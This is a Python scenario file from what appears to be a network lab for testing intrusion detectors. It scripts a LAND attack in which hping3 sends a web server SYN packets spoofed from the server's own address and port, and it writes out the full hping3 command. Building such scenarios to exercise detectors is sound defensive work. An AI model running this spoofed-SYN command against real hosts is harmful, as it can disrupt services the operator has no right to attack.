"""LAND by hping3: SYNs from the victim's own address and port."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.inside("attacker"), net.web()
    net.everyday()
    with net.attack(
        "land",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and src host {web.ip} and dst host {web.ip}",
    ):
        net.tool(attacker, *f"hping3 -q -S -s 80 -k -p 80 -a {web.ip} -i u20000 -c 150 {web.ip}".split())
    net.quiet(2)


SCENARIO = Scenario(
    name="land-hping3",
    about="hping3 sends a web server SYNs from its own address and port, fifty a second.",
    detectors=("land",),
    tools={"hping3": "hping3"},
    run=run,
)
